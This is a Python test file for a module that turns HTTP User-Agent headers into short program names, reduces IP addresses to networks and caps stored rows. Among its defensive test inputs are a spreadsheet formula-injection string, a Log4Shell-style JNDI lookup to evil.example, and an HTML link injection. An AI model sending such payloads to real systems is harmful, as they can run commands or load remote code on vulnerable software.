"""The names of programs and addresses, and how many are kept apart."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from developers.programs import (
    ADDRESS_LENGTH,
    BROWSER,
    MOST_ROWS,
    MOST_ROWS_OF_OTHERS,
    NAME_LENGTH,
    OTHERS,
    UNNAMED,
    SeenUses,
    UseKey,
    address_name,
    network_of,
    program_name,
    program_of,
)

AGENTS = {
    "n8n": "n8n",
    "n8n/1.64.0": "n8n",
    "n8n-1.64.0": "n8n",
    "python-requests/2.32.3": "python-requests",
    "python-httpx/0.28.1": "python-httpx",
    "Python-urllib/3.11": "Python-urllib",
    "Python/3.11 aiohttp/3.9.1": "aiohttp",
    "curl/8.5.0": "curl",
    "curl/7.68.0-DEV": "curl",
    "Wget/1.21.3 (linux-gnu)": "Wget",
    "HTTPie/3.2.2": "HTTPie",
    "okhttp/4.12.0": "okhttp",
    "axios/1.7.2": "axios",
    "node": "node",
    "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)": "node-fetch",
    "got (https://github.com/sindresorhus/got)": "got",
    "Go-http-client/2.0": "Go-http-client",
    "Java/17.0.1": "Java",
    "Apache-HttpClient/4.5.13 (Java/17.0.1)": "Apache-HttpClient",
    "Jakarta Commons-HttpClient/3.1": "Jakarta Commons-HttpClient",
    "GuzzleHttp/7": "GuzzleHttp",
    "Symfony HttpClient/Curl": "Symfony HttpClient",
    "Faraday v2.9.0": "Faraday",
    "Ruby": "Ruby",
    "rest-client/2.1.0 (linux x86_64) ruby/3.2.2p53": "rest-client",
    "RestSharp/110.2.0.0": "RestSharp",
    "reqwest/0.11": "reqwest",
    "libwww-perl/6.67": "libwww-perl",
    "Dart/3.2 (dart:io)": "Dart",
    "PostmanRuntime/7.39.0": "PostmanRuntime",
    "insomnia/9.2.0": "insomnia",
    "Thunder Client (https://www.thunderclient.com)": "Thunder Client",
    "MyApp/12 CFNetwork/1410.0.3 Darwin/22.6.0": "MyApp",
    "com.example.app/1.2.3 (build:12; iOS 17.2.0) Alamofire/5.8.1": "com.example.app",
    "azure-logic-apps/1.0 (workflow 3f; version 085)": "azure-logic-apps",
    "Zapier": "Zapier",
    "Integromat/production": "Integromat",
    "Slackbot 1.0 (+https://api.slack.com/robots)": "Slackbot",
    "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Excel 16.0)": "Microsoft Office",
    "WordPress/6.4; https://shop.example": "WordPress",
    "Mozilla/5.0 (Windows NT 10.0; Microsoft Windows 10.0.19045; en-US) PowerShell/7.4.1": "PowerShell",
    "Mozilla/5.0 (compatible; Google-Apps-Script; beanserver; id: UA)": "Google-Apps-Script",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)": "Googlebot",
    "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0": BROWSER,
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Safari/605.1": BROWSER,
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36": BROWSER,
    "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0)": BROWSER,
    "Opera/9.80 (Windows NT 6.1; WOW64) Presto/2.12.388 Version/12.18": BROWSER,
    "Mozilla/5.0": BROWSER,
    # As a server hands on the bytes of UTF-8, and a text that is none.
    "Ваш агент/1.0".encode().decode("latin-1"): "Ваш агент",
    "Café/1.0": "Café",
    "CRM  Sync\t2.1": "CRM Sync",
    "\u202eCRM\u200b Sync/1": "CRM Sync",
    "": UNNAMED,
    "-": UNNAMED,
    "*": UNNAMED,
    "1.2.3": UNNAMED,
    "(compatible)": UNNAMED,
    "/": UNNAMED,
    "\x00\x01": UNNAMED,
    "https://evil.example/offer": UNNAMED,
    "www.evil.example": UNNAMED,
    "<a href=https://evil.example>": UNNAMED,
    "=cmd|' /C calc'!A0": UNNAMED,
    "${jndi:ldap://evil.example/a}": UNNAMED,
}


@pytest.mark.parametrize(("agent", "program"), AGENTS.items(), ids=ascii)
def test_a_program_is_the_product_name_without_its_version(agent: str, program: str) -> None:
    assert program_of(agent) == program


def test_a_long_name_is_shortened() -> None:
    assert program_of("x" * 500) == f"{'x' * (NAME_LENGTH - 1)}…"


@settings(max_examples=25)
@given(st.text(max_size=300) | st.binary(max_size=300).map(lambda raw: raw.decode("latin-1")))
def test_any_user_agent_is_a_short_printable_name_without_a_link(agent: str) -> None:
    for name in (program_of(agent), program_of(f"Mozilla/5.0 (compatible; {agent}")):
        assert len(name) <= NAME_LENGTH
        assert name.isprintable()
        assert name.strip() == name != OTHERS
        assert {*'<>"=@/:\\'}.isdisjoint(name)


@pytest.mark.parametrize(
    ("remote", "kept"),
    [
        ("203.0.113.9", "203.0.113.9"),
        ("2001:db8:1:2:3:4:5:6", "2001:db8:1:2::/64"),
        ("2001:DB8::1", "2001:db8::/64"),
        ("::ffff:203.0.113.9", "203.0.113.9"),
        ("fe80::1%eth0", "fe80::/64"),
        ("1111:2222:3333:4444:5555:6666:7777:8888", "1111:2222:3333:4444::/64"),
        ("", ""),
        ("unix:", ""),
    ],
)
def test_an_address_is_that_of_a_connection(remote: str, kept: str) -> None:
    assert network_of(remote) == kept
    assert len(kept) <= ADDRESS_LENGTH


def test_each_kept_name_has_words_for_people() -> None:
    assert [program_name(name) for name in (UNNAMED, OTHERS, BROWSER, "curl")] == [
        "Unnamed program",
        "Other programs",
        "Web browser",
        "curl",
    ]
    assert [address_name(name) for name in (UNNAMED, OTHERS, "203.0.113.9")] == [
        "Unknown address",
        "Other addresses",
        "203.0.113.9",
    ]


def test_programs_and_addresses_beyond_the_bounds_are_the_rest() -> None:
    seen = SeenUses([UseKey("curl", "192.0.2.1", 1, False)])

    for number in range(300):
        seen.add(UseKey(f"p{number}", f"192.0.2.{number}", 1, False))
        seen.add(UseKey("curl", f"198.51.100.{number}", 1, False))

    assert len({key.program for key in seen.keys} - {OTHERS}) == 50
    for program in ("curl", OTHERS):
        assert len({key.address for key in seen.keys if key.program == program} - {OTHERS}) == 20
        assert UseKey(program, OTHERS, 1, False) in seen.keys
    known = UseKey("curl", "192.0.2.1", 1, False)
    assert seen.add(known) == known
    # Another token, or a refusal, is no other program.
    assert seen.add(known._replace(generation=2)) == known._replace(generation=2)
    assert seen.add(UseKey("new", "192.0.2.1", 1, True)) == UseKey(OTHERS, OTHERS, 1, True)


def test_many_tokens_in_one_day_are_bounded_too() -> None:
    seen = SeenUses()

    kept = [seen.add(UseKey("curl", "192.0.2.1", generation, False)) for generation in range(3_000)]

    assert kept[MOST_ROWS - 1] == UseKey("curl", "192.0.2.1", MOST_ROWS - 1, False)
    assert kept[MOST_ROWS] == UseKey(OTHERS, OTHERS, MOST_ROWS, False)
    assert kept[MOST_ROWS + MOST_ROWS_OF_OTHERS :] == [None] * (1_000 - MOST_ROWS_OF_OTHERS)
    assert len(seen.keys) == MOST_ROWS + MOST_ROWS_OF_OTHERS
